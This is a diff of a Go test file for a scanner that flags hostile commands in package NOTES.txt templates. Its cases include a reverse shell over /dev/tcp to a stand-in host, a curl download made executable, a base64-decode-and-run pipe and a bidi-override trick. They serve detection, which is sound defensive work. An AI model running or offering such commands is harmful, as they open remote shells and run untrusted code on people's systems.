@@ -23,7 +23,7 @@ func TestTextsForPeopleAreSearched(t *testing.T) {
 		{name: "a command over several lines", text: "Run:\n  curl -sLo /tmp/get https://get.example.com\n  chmod +x /tmp/get\n", want: []string{
 			"notes-remote-code package/op: templates/NOTES.txt: downloads a program and runs it"}},
 		{name: "a shell for another host", text: "bash -i >& /dev/tcp/203.0.113.9/443 0>&1\n", want: []string{
-			"notes-hostile-code package/op: templates/NOTES.txt line 1: opens a shell for another host: bash -i >& /dev/tcp/203.0.113.9/443 0>&1"}},
+			"notes-hostile-code package/op: templates/NOTES.txt line 1: opens a reverse shell to another host: bash -i >& /dev/tcp/203.0.113.9/443 0>&1"}},
 		{name: "a program that is decoded", text: "echo aGVsbG8K | base64 -d | sh\n", want: []string{
 			"notes-hidden-code package/op: templates/NOTES.txt line 1: runs what it decodes: echo aGVsbG8K | base64 -d | sh"}},
 		{name: "characters that change the order", text: "a\nkubectl get pods \u202e sdop\n", want: []string{
